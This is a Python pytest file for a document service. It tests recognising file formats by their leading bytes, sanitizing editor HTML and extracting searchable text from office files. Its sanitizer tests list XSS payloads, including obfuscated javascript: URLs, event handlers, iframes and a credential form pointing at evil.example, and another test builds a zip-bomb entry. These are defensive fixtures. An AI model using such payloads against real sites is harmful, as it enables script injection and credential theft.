"""Document content: recognition by first bytes (formatos), editor HTML sanitizing
(sanitizacao), text for search (extracao) and the extraction children (extratores)."""

from __future__ import annotations

import hashlib
import io
import os
import random
import re
import sys
import zipfile
from datetime import datetime
from html.parser import HTMLParser

import openpyxl
import pypdf
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from services.chassis.errors import ArmazenamentoIndisponivel, TipoNaoSuportado
from services.documentos import extracao, formatos
from services.documentos.extracao import (
    LIMITE_TEXTO,
    TextoIndisponivel,
    extrair_texto,
    texto_de_html,
)
from services.documentos.extracao_filho import _responder
from services.documentos.extratores import Extratores, ProcessoExtrator
from services.documentos.formatos import (
    FORMATOS,
    PERMITIDOS_PADRAO,
    exigir_formato,
    media_type,
    reconhecer,
)
from services.documentos.sanitizacao import sanitizar_html

# --------------------------------------------------------------------------------------
# Fixtures, all built here
# --------------------------------------------------------------------------------------


def pdf_com_texto(*paginas: str) -> bytes:
    """A minimal PDF, one Helvetica text line a page, with a correct xref table."""
    objetos = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>"
        % (b" ".join(b"%d 0 R" % (4 + 2 * i) for i in range(len(paginas))), len(paginas)),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    for i, texto in enumerate(paginas):
        literal = texto.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        fluxo = b"BT /F1 12 Tf 72 720 Td (" + literal.encode("cp1252") + b") Tj ET"
        objetos.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % (5 + 2 * i)
        )
        objetos.append(b"<< /Length %d >>\nstream\n%s\nendstream" % (len(fluxo), fluxo))
    saida = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    posicoes = []
    for numero, objeto in enumerate(objetos, 1):
        posicoes.append(len(saida))
        saida += b"%d 0 obj\n%s\nendobj\n" % (numero, objeto)
    xref = len(saida)
    saida += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objetos) + 1)
    for posicao in posicoes:
        saida += b"%010d 00000 n \n" % posicao
    saida += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objetos) + 1,
        xref,
    )
    return bytes(saida)


W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
CONTENT_TYPES_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" '
    'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/'
    'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
RELS_DOCX = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
DOCUMENT_XML = (
    f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document {W}><w:body>'
    "<w:p><w:r><w:t>Ofício nº 12/2024</w:t></w:r></w:p>"
    '<w:p><w:r><w:t xml:space="preserve">Senhor </w:t></w:r><w:r><w:t>Prefeito,</w:t></w:r>'
    "<w:del><w:r><w:delText>apagado</w:delText></w:r></w:del></w:p>"
    "<w:p><w:r><w:t>antes</w:t><w:tab/><w:t>depois</w:t><w:br/><w:t>nova linha</w:t></w:r></w:p>"
    "<w:tbl><w:tr>"
    "<w:tc><w:p><w:r><w:t>Item</w:t></w:r></w:p></w:tc>"
    "<w:tc><w:p><w:r><w:t>Valor</w:t></w:r></w:p></w:tc>"
    "</w:tr><w:tr>"
    "<w:tc><w:p><w:r><w:t>Papel</w:t></w:r></w:p></w:tc>"
    "<w:tc><w:p><w:r><w:t>R$ 10,00</w:t></w:r></w:p></w:tc>"
    "</w:tr></w:tbl>"
    "<w:p/><w:p><w:r><w:t>Atenciosamente.</w:t></w:r></w:p>"
    "</w:body></w:document>"
)


def docx(document_xml: str = DOCUMENT_XML, stream: io.RawIOBase | None = None) -> bytes:
    saida = stream if stream is not None else io.BytesIO()
    with zipfile.ZipFile(saida, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES_DOCX)
        z.writestr("_rels/.rels", RELS_DOCX)
        z.writestr("word/document.xml", document_xml)
    return saida.getvalue()


class SoEscrita(io.RawIOBase):
    """A non-seekable output: zipfile then writes sizes in data descriptors."""

    def __init__(self) -> None:
        self.buffer = bytearray()

    def writable(self) -> bool:
        return True

    def write(self, dados) -> int:
        self.buffer += dados
        return len(dados)

    def getvalue(self) -> bytes:
        return bytes(self.buffer)


ODF_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" office:version="1.3"'
)
ODT_CONTENT = (
    f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS}>'
    "<office:body><office:text>"
    "<text:h>Memorando   circular</text:h>"
    "<text:p>Prezados,<text:s text:c='3'/>segue <text:span>o anexo</text:span>.</text:p>"
    "<text:p>a<text:tab/>b<text:line-break/>c</text:p>"
    "<text:p>nota<text:note><text:note-citation>1</text:note-citation>"
    "<text:note-body><text:p>rodapé</text:p></text:note-body></text:note></text:p>"
    "<table:table><table:table-row><table:table-cell><text:p>célula</text:p>"
    "</table:table-cell></table:table-row></table:table>"
    "</office:text></office:body></office:document-content>"
)
ODS_CONTENT = (
    f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS}>'
    "<office:body><office:spreadsheet><table:table table:name='Plan1'>"
    "<table:table-row><table:table-cell><text:p>Nome</text:p></table:table-cell>"
    "<table:table-cell table:number-columns-repeated='2'/>"
    "<table:table-cell><text:p>Valor</text:p></table:table-cell>"
    "<table:table-cell table:number-columns-repeated='1020'/></table:table-row>"
    "<table:table-row table:number-rows-repeated='1048000'>"
    "<table:table-cell table:number-columns-repeated='1024'/></table:table-row>"
    "<table:table-row><table:table-cell><text:p>Água</text:p></table:table-cell>"
    "<table:table-cell><text:p>1.234,50</text:p></table:table-cell></table:table-row>"
    "</table:table></office:spreadsheet></office:body></office:document-content>"
)


def odf(tipo: str, content_xml: str) -> bytes:
    saida = io.BytesIO()
    with zipfile.ZipFile(saida, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", tipo, compress_type=zipfile.ZIP_STORED)
        z.writestr(
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
            'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        )
        z.writestr("content.xml", content_xml)
    return saida.getvalue()


def odt() -> bytes:
    return odf("application/vnd.oasis.opendocument.text", ODT_CONTENT)


def ods() -> bytes:
    return odf("application/vnd.oasis.opendocument.spreadsheet", ODS_CONTENT)


def xlsx() -> bytes:
    livro = openpyxl.Workbook()
    folha = livro.active
    folha.title = "Empenhos"
    folha.append(["Credor", "Valor", "Data"])
    folha.append(["Papelaria Água Azul", 1234.5, datetime(2024, 3, 15)])
    folha["E9"] = "distante"
    outra = livro.create_sheet("Resumo")
    outra.append(["Total", 2.0, True])
    saida = io.BytesIO()
    livro.save(saida)
    return saida.getvalue()


GRANDE = random.Random(0).randbytes(70_000)  # larger than a 64 KiB prefix


def zip_simples() -> bytes:
    saida = io.BytesIO()
    with zipfile.ZipFile(saida, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("leia-me.txt", "oi")
        z.writestr("programa.exe", b"MZ\x90\x00")
    return saida.getvalue()


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32
# DOS header of a PE: "MZ", header fields with NULs, e_lfanew at 0x3C pointing at "PE\0\0".
PE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + b"\x00" * 0x2B
    + b"\x80\x00\x00\x00"
    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
).ljust(0x80, b"\x00") + b"PE\x00\x00\x4c\x01"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00"
SCRIPT = b"#!/bin/sh\necho 'Prefeitura'\n"
HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
TXT_UTF8 = "Despacho: encaminhe-se à Secretaria de Administração.\n".encode()
TXT_CP1252 = "Ofício nº 7 – Ação “urgente”\r\n".encode("cp1252")


# --------------------------------------------------------------------------------------
# 1. Recognition by content
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("dados", "formato"),
    [
        (pdf_com_texto("x"), "pdf"),
        (PNG, "png"),
        (JPEG, "jpeg"),
        (TXT_UTF8, "txt"),
        (TXT_CP1252, "txt"),
        (odt(), "odt"),
        (ods(), "ods"),
        (docx(), "docx"),
        (xlsx(), "xlsx"),
    ],
)
def test_every_allowed_format_is_recognised_from_its_first_bytes(dados, formato):
    assert reconhecer(dados[:65536]) == formato
    assert formato in PERMITIDOS_PADRAO
    assert exigir_formato(dados[:65536], PERMITIDOS_PADRAO) == formato
    assert media_type(formato) == FORMATOS[formato][0]


@pytest.mark.parametrize(
    ("dados", "formato"),
    [
        (pdf_com_texto("x"), "pdf"),
        (PNG, "png"),
        (JPEG, "jpeg"),
        (TXT_UTF8, "txt"),
        (PE, "pe"),
        (ELF, "elf"),
        (SCRIPT, "script"),
        (HTML, "html"),
        (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff", "gif"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00\x00\x00\x00\x00\x00", "ole"),
        (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00", "macho"),
        (b"{\\rtf1\\ansi\\deff0 texto}", "rtf"),
    ],
)
def test_sixteen_bytes_suffice_outside_zip_containers(dados, formato):
    assert reconhecer(dados[:16]) == formato


def test_zip_containers_need_their_local_headers():
    # 16 bytes of a docx are only "a zip": refused, and the message says so.
    assert reconhecer(docx()[:16]) == "zip"
    assert reconhecer(b"PK\x05\x06" + b"\x00" * 18) == "zip"


@pytest.mark.parametrize(
    ("dados", "formato"),
    [
        (PE, "pe"),  # an "MZ" file, whatever name it was sent with (say, oficio.pdf)
        (PE[:2] + b"%PDF-1.7 disfarce", "pe"),
        (ELF, "elf"),
        (SCRIPT, "script"),
        (HTML, "html"),
        (b"  \n<html><body>oi</body></html>", "html"),
        (b"\xef\xbb\xbf<!doctype HTML>", "html"),
        (b"<p>texto com marca\xc3\xa7\xc3\xa3o</p>", "html"),
        (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "svg"),
        (b"<svg onload='alert(1)'></svg>", "svg"),
        (zip_simples(), "zip"),
    ],
)
def test_executables_html_and_plain_zip_are_refused_naming_what_they_are(dados, formato):
    with pytest.raises(TipoNaoSuportado) as erro:
        exigir_formato(dados, PERMITIDOS_PADRAO)
    assert erro.value.status == 415
    assert erro.value.code == "formato_nao_permitido"
    assert erro.value.details == {"formato": formato, "permitidos": list(PERMITIDOS_PADRAO)}
    assert formatos.DESCRICOES[formato] in erro.value.message
    assert "Formatos aceitos: PDF, PNG, JPEG, TXT, ODT, ODS, DOCX, XLSX." in erro.value.message


def test_unknown_and_empty_content_and_formats_outside_the_permitted_list():
    with pytest.raises(TipoNaoSuportado) as erro:
        exigir_formato(b"\x00\x01\x02\x03binario", PERMITIDOS_PADRAO)
    assert erro.value.details["formato"] is None
    assert "Não foi possível reconhecer" in erro.value.message
    with pytest.raises(TipoNaoSuportado) as erro:
        exigir_formato(b"", ["pdf"])
    assert erro.value.details == {"formato": None, "permitidos": ["pdf"]}
    assert "vazio" in erro.value.message
    with pytest.raises(TipoNaoSuportado) as erro:
        exigir_formato(PNG, ["pdf"])
    assert erro.value.details == {"formato": "png", "permitidos": ["pdf"]}
    assert "uma imagem PNG" in erro.value.message


def test_only_document_formats_can_be_permitted():
    with pytest.raises(ValueError):
        exigir_formato(HTML, ["pdf", "html"])
    with pytest.raises(ValueError):
        exigir_formato(docx(), ["ooxml"])
    with pytest.raises(ValueError):
        media_type("pe")


def test_text_rule_utf8_cut_at_the_end_cp1252_and_control_bytes():
    texto = "Declaração de conformidade".encode()
    corte = texto.index("ç".encode()) + 1  # the prefix ends inside "ç"
    assert reconhecer(texto[:corte]) == "txt"
    assert reconhecer(texto[:corte] + b"ao") == "txt"  # invalid UTF-8, but fine cp1252
    assert reconhecer(TXT_CP1252) == "txt"
    assert reconhecer(b"colunas\tseparadas\r\nquebra de p\xe1gina\x0c") == "txt"
    assert reconhecer(b"texto com \x00 NUL") is None
    assert reconhecer(b"texto com \x1b[31m escape") is None
    assert reconhecer(b"byte indefinido no cp1252: \x81") is None
    assert reconhecer("UTF-16".encode("utf-16")) is None


def test_office_zip_variants():
    assert reconhecer(odf("application/vnd.oasis.opendocument.presentation", "")) == (
        "opendocument"
    )
    # mimetype deflated instead of stored: not an ODF package.
    saida = io.BytesIO()
    with zipfile.ZipFile(saida, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.text")
    assert reconhecer(saida.getvalue()) == "zip"
    # Macros make a docx a docm, whatever the extension was.
    saida = io.BytesIO()
    with zipfile.ZipFile(saida, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES_DOCX)
        z.writestr("word/document.xml", DOCUMENT_XML)
        z.writestr("word/vbaProject.bin", b"\x00" * 10)
    assert reconhecer(saida.getvalue()) == "docm"


def test_ooxml_kind_from_content_types_when_no_part_is_visible_yet():
    saida = io.BytesIO()
    with zipfile.ZipFile(saida, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES_DOCX)
        z.writestr("_rels/.rels", RELS_DOCX)
        z.writestr("docProps/big.bin", GRANDE, zipfile.ZIP_STORED)  # pushes word/ away
        z.writestr("word/document.xml", DOCUMENT_XML)
    dados = saida.getvalue()
    assert "word/" not in dados[:65536].decode("latin-1")
    assert reconhecer(dados[:65536]) == "docx"


def test_ooxml_undetermined_when_the_prefix_does_not_say_which():
    saida = io.BytesIO()
    with zipfile.ZipFile(saida, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("docProps/big.bin", GRANDE, zipfile.ZIP_STORED)
        z.writestr("word/document.xml", DOCUMENT_XML)
    assert reconhecer(saida.getvalue()[:65536]) == "ooxml"
    with pytest.raises(TipoNaoSuportado) as erro:
        exigir_formato(saida.getvalue()[:65536], PERMITIDOS_PADRAO)
    assert erro.value.details["formato"] == "ooxml"
    # Both kinds of parts: it is not for the prefix to pick one.
    saida = io.BytesIO()
    with zipfile.ZipFile(saida, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("_rels/.rels", RELS_DOCX)
        z.writestr("word/document.xml", DOCUMENT_XML)
        z.writestr("xl/workbook.xml", "<workbook/>")
    assert reconhecer(saida.getvalue()) == "ooxml"


def test_docx_written_with_data_descriptors_is_recognised():
    dados = docx(stream=SoEscrita())
    with zipfile.ZipFile(io.BytesIO(dados)) as z:
        assert all(info.flag_bits & 0x08 for info in z.infolist())
    nomes = [entrada.nome for entrada in formatos._entradas_zip(dados)]
    assert nomes == ["[Content_Types].xml", "_rels/.rels", "word/document.xml"]
    assert reconhecer(dados) == "docx"
    assert "Atenciosamente." in extrair_texto("docx", dados)


def test_xlsx_by_openpyxl_has_content_types_last_and_is_still_recognised():
    livro = openpyxl.Workbook()
    sorteio = random.Random(0)
    for numero in range(5000):
        livro.active.append([f"linha {numero}", numero * 1.5, sorteio.randbytes(16).hex()])
    saida = io.BytesIO()
    livro.save(saida)
    dados = saida.getvalue()
    assert b"[Content_Types].xml" not in dados[:65536]
    assert reconhecer(dados[:65536]) == "xlsx"


def test_every_prefix_of_a_docx_is_handled():
    dados = docx()
    vistos = {reconhecer(dados[:tamanho]) for tamanho in range(4, len(dados) + 1)}
    assert vistos <= {None, "zip", "ooxml", "docx"}
    assert reconhecer(dados) == "docx"


@given(st.binary(max_size=512))
@settings(max_examples=300)
def test_recognition_never_raises(dados):
    resultado = reconhecer(dados)
    assert resultado is None or resultado in formatos.DESCRICOES
    assert reconhecer(b"PK\x03\x04" + dados) in formatos.DESCRICOES


# --------------------------------------------------------------------------------------
# 2. HTML from the editor
# --------------------------------------------------------------------------------------


PNG_DATA_URL = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVQ="


@pytest.mark.parametrize(
    "perigoso",
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil/x.js></SCRIPT>",
        "<style>body{display:none}</style>",
        '<img src="x" onerror="alert(1)">',
        '<p onclick="alert(1)">x</p>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
        '<a href="  \n\tjavascript:alert(1)">x</a>',
        '<a href="java\tscript:alert(1)">x</a>',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
        '<img src="https://rastreio.example/pixel.png">',
        '<img src="//rastreio.example/pixel.png">',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<iframe src="https://evil.example"></iframe>',
        '<form action="https://evil.example"><input name="senha"><button>Enviar</button></form>',
        '<object data="x.swf"></object><embed src="x.swf">',
        "<svg><script>alert(1)</script></svg>",
        '<p style="background:url(https://evil.example/x)">x</p>',
    ],
)
def test_sanitizer_removes_what_could_run_or_call_out(perigoso):
    limpo = sanitizar_html(f"<p>antes</p>{perigoso}<p>depois</p>")
    minusculo = limpo.lower()
    for proibido in (
        "<script",
        "<style",
        "<iframe",
        "<form",
        "<input",
        "<object",
        "<embed",
        "<svg",
        "javascript",
        "data:text",
        "evil",
        "rastreio",
        "style=",
        "onerror",
        "onclick",
        "alert",
        "svg+xml",
    ):
        assert proibido not in minusculo, (perigoso, limpo)
    assert "<p>antes</p>" in limpo and "<p>depois</p>" in limpo


def test_sanitizer_keeps_the_markup_of_an_official_document():
    entrada = (
        '<h1 class="titulo">Decreto nº 1</h1><p><strong>Art. 1º</strong> <em>Fica</em> '
        "<u>instituído</u> <s>o</s> H<sub>2</sub>O m<sup>2</sup>.</p><hr><br>"
        "<blockquote>citação</blockquote><ol><li>um</li></ol><ul><li>dois</li></ul>"
        '<table><caption>Quadro</caption><thead><tr><th colspan="2">A</th></tr></thead>'
        '<tbody><tr><td rowspan="2" style="color:red">1</td><td>2</td></tr></tbody>'
        "<tfoot><tr><td>t</td></tr></tfoot></table>"
        '<div><span class="destaque">x</span></div>'
        '<a href="https://www.example.gov.br/lei" target="_blank">lei</a>'
        '<a href="mailto:protocolo@example.gov.br">e-mail</a>'
        f'<img src="{PNG_DATA_URL}" alt="brasão">'
        '<img src="data:image/jpeg;base64,/9j/4AAQ" alt="foto">'
    )
    limpo = sanitizar_html(entrada)
    for esperado in (
        '<h1 class="titulo">Decreto nº 1</h1>',
        "<strong>Art. 1º</strong> <em>Fica</em> <u>instituído</u> <s>o</s>",
        "H<sub>2</sub>O m<sup>2</sup>",
        "<hr><br><blockquote>citação</blockquote><ol><li>um</li></ol><ul><li>dois</li></ul>",
        "<caption>Quadro</caption>",
        '<th colspan="2">A</th>',
        '<td rowspan="2">1</td>',
        "<tfoot>",
        '<div><span class="destaque">x</span></div>',
        '<a href="https://www.example.gov.br/lei" rel="noopener noreferrer">lei</a>',
        '<a href="mailto:protocolo@example.gov.br" rel="noopener noreferrer">e-mail</a>',
        f'<img src="{PNG_DATA_URL}" alt="brasão">',
        '<img src="data:image/jpeg;base64,/9j/4AAQ" alt="foto">',
    ):
        assert esperado in limpo, (esperado, limpo)
    assert "target" not in limpo and "style" not in limpo


def test_sanitizer_drops_relative_links_absurd_spans_and_emptied_images():
    limpo = sanitizar_html(
        '<a href="/admin">a</a><table><tr><td colspan="999999">c</td></tr></table>'
        '<img src="https://e.example/x.png" alt="fora"><img alt="sem">'
    )
    assert "href" not in limpo
    assert "colspan" not in limpo
    assert "<img" not in limpo
    assert sanitizar_html(limpo) == limpo
    depois = sanitizar_html('<img alt="src=x" class="a" src="data:image/png;base64,AAAA">')
    assert depois == '<img alt="src=x" class="a" src="data:image/png;base64,AAAA">'
    assert sanitizar_html('<p>a<img class="x" alt="b>c">d</p>') == "<p>ad</p>"


class Atributos(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.atributos: list[tuple[str, str]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.atributos.extend((nome, valor or "") for nome, valor in attrs)


CARGAS = st.sampled_from(
    [
        "<script>alert(1)</script>",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<scr<script>ipt>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<p ONCLICK="alert(1)">x</p>',
        '<a href="javascript:alert(1)" onmouseover=alert(1)>x</a>',
        '<a href="&#106;avascript:x">x</a>',
        "<div onload=alert(1)//",
        "<svg/onload=alert(1)>",
        '<a href=" JAVASCRIPT:alert(1)">',
        '<body onpageshow="alert(1)">',
        '"><script>alert(1)</script>',
        "<!--<script>alert(1)</script>-->",
        "<style>@import 'x'</style>",
    ]
)


@given(
    texto=st.text(max_size=80), cargas=st.lists(CARGAS, max_size=4), atributo=st.text(max_size=20)
)
@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
def test_property_no_script_no_handlers_no_javascript(texto, cargas, atributo):
    html = f'<p title="{atributo}">{texto}</p>' + "".join(cargas) + f"<p>{texto}</p>"
    limpo = sanitizar_html(html)
    assert "<script" not in limpo.lower()
    analisador = Atributos()
    analisador.feed(limpo)
    analisador.close()
    assert "script" not in analisador.tags
    for nome, valor in analisador.atributos:
        assert not nome.lower().startswith("on"), limpo
        assert "javascript:" not in valor.lower().replace(" ", ""), limpo
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", limpo, re.IGNORECASE), limpo


def test_texto_de_html_gives_visible_text_block_by_block():
    html = (
        "<h1>Ofício  nº&nbsp;3</h1><p>Senhor\n   Secretário,<br>segue &amp; anexo &lt;ok&gt;.</p>"
        "<script>var x = '<p>oculto</p>';</script><style>p{}</style>"
        "<ul><li>primeiro</li><li>segundo</li></ul>"
        "<table><tr><td>Item</td><td>Valor</td></tr><tr><td>Papel</td><td>10</td></tr></table>"
        "<div>fim <b>em</b> <i>linha</i></div><pre>a\n  b</pre>"
    )
    assert texto_de_html(html) == (
        "Ofício nº 3\nSenhor Secretário,\nsegue & anexo <ok>.\nprimeiro\nsegundo\n"
        "Item Valor\nPapel 10\nfim em linha\na\nb"
    )
    assert texto_de_html("") == ""
    assert texto_de_html("sem marcação") == "sem marcação"


# --------------------------------------------------------------------------------------
# 3. Text for search
# --------------------------------------------------------------------------------------


def test_pdf_text_page_by_page():
    dados = pdf_com_texto("Ofício nº 12/2024", "Segunda (página)")
    assert extrair_texto("pdf", dados) == "Ofício nº 12/2024\nSegunda (página)"
    assert extrair_texto("pdf", io.BytesIO(dados)) == "Ofício nº 12/2024\nSegunda (página)"


@pytest.mark.parametrize(
    "dados",
    [
        b"%PDF-1.4\nlixo",
        pdf_com_texto("cortado")[:200],
        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF",
        b"",
        PE,
    ],
)
def test_broken_pdf_text_is_unavailable(dados):
    with pytest.raises(TextoIndisponivel) as erro:
        extrair_texto("pdf", dados)
    assert erro.value.motivo


def test_a_pdf_without_end_marker_is_refused_before_the_parser_walks_it():
    sem_fim = b"%PDF-1.7\n" + b"0" * (3 * 1024 * 1024)
    with pytest.raises(TextoIndisponivel, match="%%EOF"):
        extrair_texto("pdf", io.BytesIO(sem_fim))
    # A marker across the boundary of two blocks read from the end is found.
    dados = pdf_com_texto("Ofício nº 12/2024")
    fim = dados.rindex(b"%%EOF")
    partido = dados[:fim] + b"%%EOF" + b" " * (1024 * 1024 - 3)  # "%%" | "EOF" + spaces
    assert extracao._tem_fim_de_pdf(io.BytesIO(partido))
    assert not extracao._tem_fim_de_pdf(io.BytesIO(partido.replace(b"%%EOF", b"%%EOX")))
    # Bytes after the marker (seen in real files) do not stop the extraction.
    assert extrair_texto("pdf", dados + b"\r\n" + b"\x00" * 2000) == "Ofício nº 12/2024"


def test_encrypted_pdf_text_is_unavailable():
    escritor = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(pdf_com_texto("sigilo"))))
    escritor.encrypt("senha", algorithm="RC4-128")
    saida = io.BytesIO()
    escritor.write(saida)
    with pytest.raises(TextoIndisponivel, match="cifrado"):
        extrair_texto("pdf", saida.getvalue())


def test_docx_paragraphs_and_tables():
    assert extrair_texto("docx", docx()) == (
        "Ofício nº 12/2024\nSenhor Prefeito,\nantes\tdepois\nnova linha\n"
        "Item\tValor\nPapel\tR$ 10,00\nAtenciosamente."
    )


def test_odt_paragraphs_spaces_tabs_and_line_breaks():
    assert extrair_texto("odt", odt()) == (
        "Memorando circular\nPrezados,   segue o anexo.\na\tb\nc\nnota\nrodapé\ncélula"
    )


def test_ods_rows_and_cells():
    assert extrair_texto("ods", ods()) == "Nome\t\t\tValor\nÁgua\t1.234,50"


def test_xlsx_rows_and_cells_of_every_sheet():
    assert extrair_texto("xlsx", xlsx()) == (
        "Credor\tValor\tData\nPapelaria Água Azul\t1234.5\t15/03/2024\n"
        "\t\t\t\tdistante\nTotal\t2\tverdadeiro"
    )


def test_txt_html_and_images():
    assert extrair_texto("txt", TXT_UTF8) == TXT_UTF8.decode()
    assert extrair_texto("txt", b"\xef\xbb\xbfcom BOM") == "com BOM"
    assert extrair_texto("txt", TXT_CP1252) == "Ofício nº 7 – Ação “urgente”\n"
    assert extrair_texto("txt", b"nul\x00 e \x07sino") == "nul e sino"
    assert extrair_texto("html", "<p>Olá</p><p>mundo</p>".encode()) == "Olá\nmundo"
    assert extrair_texto("png", PNG) == ""
    assert extrair_texto("jpeg", JPEG) == ""


def test_streams_seekable_or_not_are_read_from_the_start():
    class SoLeitura(io.RawIOBase):
        def __init__(self, dados: bytes) -> None:
            self.fonte = io.BytesIO(dados)

        def readable(self) -> bool:
            return True

        def readinto(self, destino) -> int:
            bloco = self.fonte.read(len(destino))
            destino[: len(bloco)] = bloco
            return len(bloco)

    dados = docx()
    parcialmente_lido = io.BytesIO(dados)
    parcialmente_lido.read(100)  # the caller sniffed the prefix first
    assert "Atenciosamente." in extrair_texto("docx", parcialmente_lido)
    assert "Atenciosamente." in extrair_texto("docx", SoLeitura(dados))
    assert extrair_texto("txt", SoLeitura(TXT_UTF8)) == TXT_UTF8.decode()


def test_zip_bomb_entry_is_refused_by_its_declared_size():
    saida = io.BytesIO()
    with zipfile.ZipFile(saida, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", CONTENT_TYPES_DOCX)
        with z.open("word/document.xml", "w", force_zip64=True) as parte:
            zeros = b"\x00" * (1024 * 1024)
            for _ in range(101):
                parte.write(zeros)
    dados = saida.getvalue()
    assert len(dados) < 1024 * 1024
    with pytest.raises(TextoIndisponivel, match="limite"):
        extrair_texto("docx", dados)


@pytest.mark.parametrize(("formato", "construtor"), [("xlsx", xlsx), ("ods", ods), ("odt", odt)])
def test_entry_size_limit_applies_to_every_zip_format(monkeypatch, formato, construtor):
    monkeypatch.setattr(extracao, "LIMITE_ENTRADA_ZIP", 100)
    with pytest.raises(TextoIndisponivel, match="limite"):
        extrair_texto(formato, construtor())


def test_text_is_truncated_at_the_limit():
    assert len(extrair_texto("txt", b"a" * (LIMITE_TEXTO + 10))) == LIMITE_TEXTO
    # Cut inside a multi-byte character by the read limit: the partial character is dropped.
    texto = extrair_texto("txt", "ç".encode() * (2 * LIMITE_TEXTO + 1))
    assert len(texto) == LIMITE_TEXTO and set(texto) == {"ç"}


def test_structured_extraction_stops_at_the_limit(monkeypatch):
    monkeypatch.setattr(extracao, "LIMITE_TEXTO", 30)
    paragrafos = "".join(f"<w:p><w:r><w:t>parágrafo {n}</w:t></w:r></w:p>" for n in range(1000))
    documento = f"<w:document {W}><w:body>{paragrafos}</w:body></w:document>"
    assert extrair_texto("docx", docx(documento)) == "parágrafo 0\nparágrafo 1\nparágr"


@pytest.mark.parametrize(
    "dados",
    [
        zip_simples(),  # no word/document.xml
        docx("<w:document><w:body><w:p>"),  # broken XML
        docx(f'<!DOCTYPE d [<!ENTITY e "x">]><w:document {W}/>'),  # DTD: refused
        b"PK\x03\x04 not really a zip",
        PNG,
    ],
)
def test_malformed_docx_text_is_unavailable(dados):
